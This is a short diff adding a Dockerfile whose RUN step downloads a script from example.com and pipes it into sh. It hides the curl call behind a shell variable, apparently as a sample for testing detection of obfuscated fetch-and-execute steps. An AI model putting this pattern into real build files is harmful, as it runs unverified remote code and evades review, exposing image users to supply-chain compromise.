@@ -1,0 +1,2 @@
+FROM debian:bookworm-slim
+RUN X=curl; $X https://example.com/i | sh
